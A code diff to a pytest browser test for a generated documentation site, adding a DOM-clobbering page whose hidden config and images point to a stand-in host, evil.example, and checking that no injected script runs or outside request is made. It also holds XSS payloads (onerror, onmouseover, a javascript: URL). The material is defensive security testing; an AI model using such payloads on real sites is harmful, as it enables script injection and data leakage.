@@ -218,11 +218,36 @@ HOSTILE_NAME = "Plan</title>" + PAYLOAD.format("name") + "\" onmouseover=\"x"
 HOSTILE_TITLE = "About <img src=x onerror=\"document.documentElement.dataset.pwned='title'\">"
 
 
+# D9 and D23: Material's script reads its settings from #__config (a base address on another host would make
+# it fetch the search index from there) and loads a drawing library from unpkg.com for pre.mermaid.
+CLOBBER_PAGE = """---
+order: 60
+---
+
+# Clobber test page
+
+<p id="__config" hidden>{"base":"http://evil.example/","features":[],"translations":{},"search":"x.js"}</p>
+
+<pre class="mermaid">graph TD; A-->B</pre>
+
+First, a reference picture: ![A small dot][dot1]
+
+[dot1]: https://evil.example/reference.gif
+
+Second: <img
+src="https://evil.example/split.gif" alt="A dot">
+
+Third: <img src="\\\\evil.example/backslash.gif" alt="A dot">
+"""
+
+
 @pytest.fixture(scope="module")
 def hostile_site(tmp_path_factory):
-    """The example built with a hostile site name, page title and homepage let past the check, and a theme
-    override of the plan's that adds an inline script of its own."""
+    """The example built with a hostile site name, page title and homepage let past the check, a page whose
+    theme-clobbering and remote pictures the check refuses let past it too, and a theme override of the
+    plan's that adds an inline script of its own."""
     root = copy_plan(MID_ESSEX, tmp_path_factory.mktemp("hostile") / "plan")
+    (root / "content" / "clobber.md").write_text(CLOBBER_PAGE, encoding="utf-8")
     (root / "templates" / "overrides").mkdir(parents=True)
     (root / "templates" / "overrides" / "main.html").write_text(
         (REPO / "templates" / "overrides" / "main.html").read_text(encoding="utf-8")
@@ -232,6 +257,7 @@ def hostile_site(tmp_path_factory):
 
     def let_past(project, strict=False):
         checked = checked_for_real(project, strict)
+        checked.findings = [f for f in checked.findings if f.location.file != "content/clobber.md"]
         checked.settings = SiteSettings.model_construct(
             site_name=HOSTILE_NAME, site_url="https://plan.example.nhs.uk/mid-essex/", copyright=None,
             extra=ThemeExtras.model_construct(homepage="javascript:document.documentElement.dataset.pwned='home'"))
@@ -270,7 +296,9 @@ def test_d34_the_policy_allows_only_the_themes_own_scripts(hostile_site):
 
 
 def test_injected_scripts_do_not_run_in_a_browser_under_the_generated_headers(hostile_site):
-    """D1, D2, D4, D34: in Chromium, served with the headers the build writes, nothing injected runs."""
+    """D1, D2, D4, D9, D23, D34: in Chromium, served with the headers the build writes, nothing injected runs
+    and nothing is asked of another host, even with the theme's settings clobbered and pictures from elsewhere
+    let past the check."""
     from playwright.sync_api import sync_playwright
     from test_browser import CHROMIUM, FLAGS, _QuietHandler
 
@@ -280,9 +308,13 @@ def test_injected_scripts_do_not_run_in_a_browser_under_the_generated_headers(ho
         with sync_playwright() as playwright:
             browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
             page = browser.new_page()
+            elsewhere = []
+            page.on("request", lambda request: elsewhere.append(request.url)
+                    if request.url.startswith(("http:", "https:", "ws")) and "//127.0.0.1:" not in request.url
+                    else None)
             ran = []
-            for name in ("index.html", "about.html", "finance.html"):
-                page.goto(f"http://127.0.0.1:{server.server_address[1]}/{name}")
+            for name in ("index.html", "about.html", "clobber.html"):
+                assert page.goto(f"http://127.0.0.1:{server.server_address[1]}/{name}").ok, name
                 page.hover("header")
                 page.wait_for_load_state("networkidle")
                 ran.append(page.evaluate("document.documentElement.dataset.pwned || ''"))
@@ -291,3 +323,4 @@ def test_injected_scripts_do_not_run_in_a_browser_under_the_generated_headers(ho
     finally:
         server.shutdown()
     assert ran == ["", "", ""]
+    assert elsewhere == []
